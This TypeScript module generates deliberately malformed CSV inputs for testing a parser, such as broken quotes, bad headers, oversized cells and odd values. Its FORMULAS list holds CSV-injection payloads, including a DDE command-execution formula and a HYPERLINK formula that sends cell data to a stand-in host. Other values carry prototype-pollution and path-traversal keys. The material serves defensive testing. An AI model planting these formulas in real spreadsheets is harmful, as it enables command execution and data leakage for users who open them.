/** CSV spoilt in its header, its quotes, its cells and its line ends (https://www.rfc-editor.org/rfc/rfc4180). */
import type { Random } from '../../../tools/lib/random';
import { cell, COLUMNS, csvLines, lineOf, type Good } from './good';
import { kindsOf, type Kind } from './kind';

/** The lines of a body, the header first; a kind changes them. */
type Change = (lines: string[], random: Random, good: Good) => string[];

export const MANY_COLUMNS = 5000;
export const LONG_CELL = 2 * 1024 * 1024;

/** What a spreadsheet would run (https://owasp.org/www-community/attacks/CSV_Injection); here it is text. */
export const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x/?"&A1,"click")',
  '+1+cmd',
  '-1+1',
  '@SUM(1+1)',
  '\tx',
  '\rx',
  '%0A=1',
];

const NUMBERS = [
  '1e999',
  '-1e999',
  '-0',
  '1e-400',
  '9223372036854775808',
  '01',
  '+1',
  '.5',
  '1.',
  '0x10',
  'NaN',
  'Infinity',
  '1,5',
  ' 1',
  '1 ',
  '１',
];
const FLAGS = ['TRUE', 'True', '1', 'yes', 'true ', 'null', '"false"'];
const TIMES = ['2026-02-30T00:00:00Z', '05/01/2026', '2999-01-01T00:00:00Z', '1767600000', '2026-01-05', ''];
const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

/** One record's line, with the cell of this column in other words. */
function withCell(column: (typeof COLUMNS)[number], texts: readonly string[]): Change {
  return (lines, random, { records }) => {
    const at = random.integer(0, records.length - 1);
    const text = random.pick(texts);
    const cells = COLUMNS.map((name) => cell(name === column ? text : records[at]?.[name]));
    return lines.with(at + 1, lineOf(cells));
  };
}

/** One record's line as it is, changed as text. */
const withLine =
  (change: (line: string, random: Random) => string): Change =>
  (lines, random) => {
    const at = random.integer(1, lines.length - 1);
    return lines.with(at, change(lines[at] ?? '', random));
  };

/** A column more for every record, before the others or behind. */
function withColumn(names: readonly string[], texts: readonly string[]): Change {
  return (lines, random) => {
    const [name, text, first] = [random.pick(names), random.pick(texts), random.next() < 0.5];
    // A line break within quotes is none of the line's end: the kinds below only see whole records.
    return lines.map((line, at) => {
      const more = cell(at === 0 ? name : text);
      return first ? `${more},${line}` : `${line},${more}`;
    });
  };
}

const header =
  (change: (names: string[], random: Random) => string[]): Change =>
  (lines, random) => [lineOf(change([...COLUMNS], random)), ...lines.slice(1)];

/** Unquoted columns, so that quotes can be put at known places. */
const UNQUOTED = ['ab"c', '"ab"c', '"ab" ', ' "ab"', 'ab""', '"""', '"ab""'];

const CHANGES: Readonly<Record<string, Change>> = {
  'csv-quote-unclosed': withLine((line) => `"${line.replaceAll('"', '')}`),
  'csv-quote-within': withLine(
    (line, random) => `${random.pick(UNQUOTED)},${line.slice(line.indexOf(',') + 1)}`,
  ),
  'csv-header-only': ([first = '']) => [first],
  'csv-no-header': (lines) => lines.slice(1),
  'csv-column-twice': header((names, random) =>
    names.with(random.integer(2, 6), random.pick(names.slice(0, 2))),
  ),
  'csv-column-unnamed': header((names, random) =>
    names.with(random.integer(2, 6), random.pick(['', ' ', '""'])),
  ),
  'csv-column-prototype': withColumn(NAMES, ['polluted', '{"polluted":true}', '']),
  'csv-column-odd': withColumn(
    ['a/b', 'a.b', '~', '$ref', 'id ', ' text', 'ID', '_hw', 'x\ny', 'naïve', '😀', 'a"b'],
    ['v'],
  ),
  'csv-columns-many': (lines) =>
    lines.map(
      (line, at) =>
        `${line},${Array.from({ length: MANY_COLUMNS }, (_, n) => (at === 0 ? `c${n}` : n)).join(',')}`,
    ),
  'csv-column-name-long': withColumn(['n'.repeat(70_000)], ['v']),
  'csv-row-short': withLine((line) => line.slice(0, line.indexOf(','))),
  'csv-row-long': withLine((line, random) => `${line}${',x'.repeat(random.pick([1, 2, 10_000]))}`),
  'csv-row-blank': (lines, random) => lines.toSpliced(random.integer(1, lines.length), 0, ''),
  'csv-row-commas': (lines, random) => lines.toSpliced(random.integer(1, lines.length), 0, ',,,,,,'),
  'csv-rows-blank-many': (lines) => [...lines, ...Array.from({ length: 50_000 }, () => '')],
  'csv-cell-long': withCell('text', ['x'.repeat(LONG_CELL), `"${'\n'.repeat(LONG_CELL)}`]),
  'csv-formula': withCell('text', FORMULAS),
  'csv-number-odd': withCell('amount', NUMBERS),
  'csv-integer-odd': withCell('count', [...NUMBERS, '1.0', '1e2', '9007199254740993']),
  'csv-flag-odd': withCell('flag', FLAGS),
  'csv-time-odd': withCell('at', TIMES),
  'csv-key-odd': withCell('id', ['', '.', '..', 'a/../b', '\0', '__proto__', 'x'.repeat(2049), '👩‍👩‍👧', ' ']),
  'csv-line-breaks-quoted': withCell('text', ['a\nb', 'a\r\nb', 'a\rb', '\n', '"\n"', 'a,b\n"c",d\n']),
  'csv-other-delimiter': (lines, random) => {
    const delimiter = random.pick([';', '\t', '|']);
    return lines.map((line) => line.replaceAll(',', delimiter));
  },
  'csv-header-quoted': (lines) => lines.with(0, lineOf(COLUMNS.map((name) => `"${name}"`))),
  'csv-header-spaced': (lines) => lines.with(0, COLUMNS.join(', ')),
  'csv-mixed-ends': (lines, random) => lines.map((line) => line + random.pick(['', '\r'])),
};

const joinedLines = (lines: readonly string[]): Buffer => Buffer.from(`${lines.join('\n')}\n`);

const QUOTED = '"a ""quoted"" å,\r\n日本"';

/** A long cell before it, so that quotes, a line break and characters of several bytes lie across a piece's border. */
function acrossPieces(good: Good, random: Random): Buffer {
  const border = random.pick([16 * 1024, 64 * 1024]);
  const [first = '', ...others] = csvLines(good.records);
  const target = random.integer(0, Buffer.byteLength(QUOTED) - 1);
  const start = `${good.tag}-long,2026-01-05T00:00:00Z,`;
  const blanks = border - 1 - target - Buffer.byteLength(`${first}\n${start},1,1,true,`);
  return joinedLines([first, `${start}${'x'.repeat(blanks)},1,1,true,${QUOTED}`, ...others]);
}

export const csvKinds: readonly Kind[] = [
  ...kindsOf(['csv'], CHANGES, (change, good, random) =>
    joinedLines(change(csvLines(good.records), random, good)),
  ),
  { name: 'csv-across-pieces', formats: ['csv'], make: acrossPieces },
  {
    name: 'csv-no-line-end',
    formats: ['csv'],
    make: (good) => Buffer.from(csvLines(good.records).join('\r\n')),
  },
  {
    name: 'csv-rows-many',
    formats: ['csv'],
    make: (_, random) =>
      joinedLines(['id', ...Array.from({ length: random.pick([2001, 5000]) }, (_item, at) => `k${at}`)]),
  },
  {
    name: 'csv-too-long',
    formats: ['csv'],
    make: (good) =>
      joinedLines([...csvLines(good.records), `${good.tag}-x,,${'x'.repeat(5 * 1024 * 1024)},,,,`]),
  },
];
